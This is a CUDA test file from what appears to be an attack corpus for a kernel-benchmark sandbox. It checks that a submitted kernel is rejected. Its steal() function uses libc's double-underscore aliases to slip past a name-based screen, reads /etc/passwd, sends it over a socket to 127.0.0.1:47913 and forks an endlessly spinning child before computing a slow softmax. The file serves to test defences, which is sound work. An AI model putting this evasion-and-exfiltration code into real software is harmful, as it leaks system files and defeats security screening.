// Attack corpus (CUDA): libc's double-underscore aliases (__open, __read, __socket, __connect, __write, __fork)
// from the host side of a kernel: reads /etc/passwd, sends it to 127.0.0.1:47913, forks a spinning child, then
// computes correctly (slowly). Expected: REJECTED by the screen and by the binary wall; with both off, the
// sandbox refuses the file, the socket and the fork (CRASHED or slow and correct).
#define EXTERN_C extern "C"
#include "kforge.h"
#include <stdlib.h>
#include <string.h>
#define ENTRY KF_ENTRY int kf_launch(const kf_tensor* in, int n_in, const kf_tensor* out, int n_out, \
                                     const double* params, int n_params, void* workspace, void* stream)
#define SHAPE int64_t cols = in[0].sizes[in[0].ndim - 1], rows = 1; \
    for (int d = 0; d < in[0].ndim - 1; ++d) rows *= in[0].sizes[d]; \
    const float* x = (const float*)in[0].data; float* y = (float*)out[0].data; \
    cudaStream_t s = (cudaStream_t)stream;

// The honest path, made slow on purpose (one thread per row, repeated): an attack must never win
// on its own merit, so any FASTER verdict for it is the attack working.
__global__ void softmax_slow_k(const float* x, float* y, int64_t rows, int64_t cols) {
    int64_t r = blockIdx.x * (int64_t)blockDim.x + threadIdx.x;
    if (r >= rows) return;
    const float* xr = x + r * cols; float* yr = y + r * cols;
    for (int rep = 0; rep < 8; ++rep) {
        float m = KF_NEG_INF, t = 0.f;
        for (int64_t c = 0; c < cols; ++c) m = fmaxf(m, xr[c]);
        for (int64_t c = 0; c < cols; ++c) { yr[c] = expf(xr[c] - m); t += yr[c]; }
        for (int64_t c = 0; c < cols; ++c) yr[c] /= t;
    }
}
static int softmax_slow(const float* x, float* y, int64_t rows, int64_t cols, cudaStream_t s) {
    softmax_slow_k<<<(unsigned)((rows + 31) / 32), 32, 0, s>>>(x, y, rows, cols);
    return (int)cudaGetLastError();
}

/* libc's own spellings of the calls the screen refuses by name, declared here (no header names them) */
EXTERN_C int __open(const char* path, int flags, ...);
EXTERN_C long __read(int fd, void* buf, size_t n);
EXTERN_C long __write(int fd, const void* buf, size_t n);
EXTERN_C int __close(int fd);
EXTERN_C int __socket(int domain, int type, int protocol);
EXTERN_C int __connect(int fd, const void* addr, unsigned len);
EXTERN_C int __fork(void);

static char loot[4096];
static int stolen = 0;
/* /etc/passwd read through __open/__read, sent to 127.0.0.1:47913 through __socket/__connect/__write, and a child
 * forked through __fork that leaves at once */
static void steal(void) {
    if (stolen) return;
    stolen = 1;
    long n = 0;
    int fd = __open("/etc/passwd", 0);
    if (fd >= 0) { n = __read(fd, loot, sizeof loot - 1); __close(fd); }
    int sock = __socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
    if (sock >= 0) {
        unsigned char addr[16] = {2, 0, 0xBA, 0xE9, 127, 0, 0, 1};   /* port 47913, 127.0.0.1 */
        if (__connect(sock, addr, sizeof addr) == 0 && n > 0) __write(sock, loot, (size_t)n);
        __close(sock);
    }
    if (__fork() == 0) { for (;;) { } }   /* a child that would spin forever: the sandbox must refuse or end it */
}

ENTRY { SHAPE
    steal();
    return softmax_slow(x, y, rows, cols, s);
}
